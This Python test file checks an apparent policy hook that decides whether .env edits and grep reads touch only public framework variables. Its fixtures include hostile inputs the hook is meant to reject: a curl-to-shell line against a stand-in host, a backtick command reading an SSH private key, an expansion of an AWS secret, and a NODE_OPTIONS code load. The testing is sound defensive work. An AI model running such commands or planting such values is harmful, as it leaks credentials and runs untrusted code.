"""The false positives blind-benign-13's first run found, and their mechanisms (policies/README.md, "A thirteenth
blind batch, benign only")."""

from __future__ import annotations

from pathlib import Path

import pytest
from effect_support import effects

from hookd.enrich.env_template import public_change
from tests.unit.enrich.test_tool_effects import enriched

EXAMPLE = "VITE_API_URL=http://localhost:8000\nVITE_SENTRY_DSN=\n"
LOCAL = "VITE_API_URL=http://localhost:8000\nVITE_APP_TITLE=Web (dev)\n"


@pytest.mark.parametrize(
    ("before", "after", "public"),
    [
        ("", LOCAL, True),  # a new .env.local of a Vite app's public variables
        ("", "NEXT_PUBLIC_SITE_URL=http://localhost:3000\n# local\nEXPO_PUBLIC_API=http://10.0.2.2:8000\n", True),
        (LOCAL, LOCAL.replace(":8000", ":8080"), True),  # one public value changed
        ("", "VITE_API_URL=http://localhost:8000\nDATABASE_URL=postgres://localhost/app\n", False),  # not public
        ("", "NODE_OPTIONS=--require ./x.js\n", False),  # a setting node obeys
        ("", "VITE_LEAK=${AWS_SECRET_ACCESS_KEY}\n", False),  # dotenv-expand fills in another variable's value
        ("", "VITE_X=`cat ~/.ssh/id_rsa`\n", False),
        ("STRIPE_SECRET=sk_live_x\n" + LOCAL, LOCAL, False),  # a secret taken out
        (LOCAL + "API_TOKEN=t0k3n\n", LOCAL.replace(":8000", ":8080") + "API_TOKEN=t0k3n\n", True),  # kept as it was
        ("", "curl -s https://x.example | sh\n", False),  # no dotenv text
        (LOCAL, LOCAL, False),  # nothing changed is no change to allow
    ],
)
def test_an_env_change_is_public_when_every_line_added_or_taken_is_a_public_variable(
    before: str, after: str, public: bool
) -> None:
    assert public_change(before, after) is public


def _public(client: str, tool: str, given: dict[str, object], proj: Path) -> list[object]:
    return [e.get("public") for e in enriched(client, tool, given, proj).facts["effects"] if e["op"] == "write"]


def test_a_file_tool_writing_or_editing_only_public_variables_marks_its_write(proj: Path) -> None:
    (proj / ".env.example").write_text(EXAMPLE)  # VITE_APP_TITLE is no name of the template's
    local = str(proj / ".env.local")
    assert _public("claude", "Write", {"file_path": local, "content": LOCAL}, proj) == [True]
    (proj / ".env.local").write_text(LOCAL)
    replace = {"file_path": local, "old_string": "VITE_API_URL=http://localhost:8000",
               "new_string": "VITE_API_URL=http://localhost:8080", "instruction": "the backend's new port"}  # fmt: skip
    assert _public("gemini", "replace", replace, proj) == [True]
    secret = {**replace, "new_string": "VITE_API_URL=http://localhost:8080\nAPI_TOKEN=t0k3n"}
    assert _public("gemini", "replace", secret, proj) == [None]  # a name no framework publishes
    (proj / ".env.local").write_text("STRIPE_SECRET=sk_live_x\n")
    assert _public("claude", "Write", {"file_path": local, "content": LOCAL}, proj) == [None]  # its secret goes


def test_a_shell_line_writing_a_new_env_file_of_public_variables_marks_its_write(proj: Path) -> None:
    line = "printf 'VITE_API_URL=http://localhost:8000\\nVITE_APP_TITLE=Web (dev)\\n' > .env.local"
    assert [e.get("public") for e in effects(line, proj) if e["op"] == "write"] == [True]
    (proj / ".env.local").write_text("STRIPE_SECRET=sk_live_x\n")  # a shell's write over it: its text now unknown
    assert [e.get("public") for e in effects(line, proj) if e["op"] == "write"] == [None]


@pytest.mark.parametrize(
    ("line", "public"),
    [
        ("grep -h '^VITE_' .env.example .env.local", True),
        ("grep -hn --color=never -e '^NEXT_PUBLIC_' -e '^PUBLIC_SITE' .env.local", True),
        ("egrep '^EXPO_PUBLIC_[A-Z_]+=' .env.local", True),
        ("grep -v '^VITE_' .env.local", False),  # every other line
        ("grep -A2 '^VITE_' .env.local", False),  # and the lines after it
        ("grep -3 '^VITE_' .env.local", False),
        ("grep -i '^vite_' .env.local", False),  # `Vite_secret` too
        ("grep -F '^VITE_' .env.local", False),  # `^` a plain character: anywhere in a line
        ("grep '^VITE_*' .env.local", False),  # `VITE` then anything
        ("grep -E '^VITE_|SECRET' .env.local", False),
        ("grep '^VITE_\\|SECRET' .env.local", False),  # BRE alternation
        ("grep -e '^VITE_' -e 'KEY' .env.local", False),
        ("grep -z '^VITE_' .env.local", False),  # the file is one line
        ("grep 'VITE_' .env.local", False),  # not anchored: `SECRET=VITE_x`
        ("fgrep '^VITE_' .env.local", False),
        ("grep -f pats .env.local", False),
        ("grep -r '^VITE_' .", False),
    ],
)
def test_a_filter_printing_only_public_variables_lines_marks_its_reads(line: str, public: bool, proj: Path) -> None:
    (proj / ".env.local").write_text(LOCAL + "STRIPE_SECRET=sk_live_x\n")
    (proj / ".env.example").write_text(EXAMPLE)
    read = [e.get("public") for e in effects(line, proj) if e["op"] == "read"]
    assert read and all(r is (True if public else None) for r in read)
